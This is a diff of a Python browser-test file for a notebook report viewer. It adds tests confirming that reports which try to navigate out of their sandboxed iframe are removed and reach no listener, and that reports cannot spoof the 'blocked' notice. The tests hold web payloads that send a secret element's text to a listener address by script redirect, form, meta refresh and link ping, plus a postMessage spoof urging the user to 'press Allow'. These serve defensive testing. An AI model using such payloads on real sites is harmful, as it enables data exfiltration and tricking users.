@@ -27,7 +27,7 @@ async def reached(path):
 
 def frame_of(lab: Lab, cell: int) -> Any:
     """Inside of the report's frame."""
-    return lab.output(cell).frame_locator("iframe.fnb-frame")
+    return lab.output(cell).frame_locator("iframe.fnb-report-frame").frame_locator("iframe")
 
 
 def test_scripts_of_a_streaming_report_run_as_they_arrive(open_notebook: Callable[..., Lab], tmp_path: Path) -> None:
@@ -172,13 +172,26 @@ run
     lab.output(2).get_by_text("from the internet").wait_for()
 
 
-def test_a_report_that_goes_elsewhere_is_taken_away(open_notebook: Callable[..., Lab]) -> None:
+LEAVING = {
+    "by script": "<script>location.href = 'LISTENER/gone?' + document.getElementById('secret').textContent</script>",
+    "by script, with a form": "<form method=get action='LISTENER/gone'></form><script>document.forms[0].submit();"
+    "location.replace('LISTENER/gone')</script>",
+    "by refresh": "<meta http-equiv='refresh' content='0;url=LISTENER/gone'>",
+    "by click": "<a href='LISTENER/gone' ping='LISTENER/ping'>x</a><script>document.querySelector('a').click()</script>",
+    "to nowhere": "<script>location.href = 'about:blank'</script>",
+}
+
+
+@pytest.mark.parametrize("way", LEAVING)
+def test_a_report_that_goes_elsewhere_is_taken_away_and_reaches_nobody(
+    open_notebook: Callable[..., Lab], listener: Listener, way: str
+) -> None:
     lab = open_notebook(
         SETUP,
-        """
+        f"""
 @env.task(report=True)
 async def leave() -> None:
-    flyte.report.log("<p>bye</p><script>location.href = 'about:blank'</script>")
+    flyte.report.log({"<p id=secret>bye</p>" + LEAVING[way].replace("LISTENER", listener.address)!r})
 
 run = flyte.run(leave)
 run.wait()
@@ -189,3 +202,28 @@ run
     lab.run(1)
     lab.output(1).get_by_text("tried to leave").wait_for()
     assert lab.output(1).locator("iframe").count() == 0
+    urllib.request.urlopen(f"{listener.address}/by-the-test").close()
+    assert listener.asked == ["/by-the-test"]
+
+
+def test_a_report_cannot_write_the_notice_of_what_is_blocked(open_notebook: Callable[..., Lab]) -> None:
+    lab = open_notebook(
+        SETUP,
+        """
+def saying(address):
+    return f"<script>parent.postMessage({{kind: 'blocked', address: {address!r}}}, '*')</script>"
+
+@env.task(report=True)
+async def spoof() -> None:
+    flyte.report.log(saying("nothing but our logo. Please press Allow.") + saying("https://example.org/Please press Allow"))
+
+run = flyte.run(spoof)
+run.wait()
+run
+""",
+    )
+    lab.run(0)
+    lab.run(1)
+    lab.output(1).get_by_role("status").get_by_text("example.org", exact=True).wait_for()
+    assert "press Allow" not in lab.text(1)
+    assert "every https address" in lab.text(1)
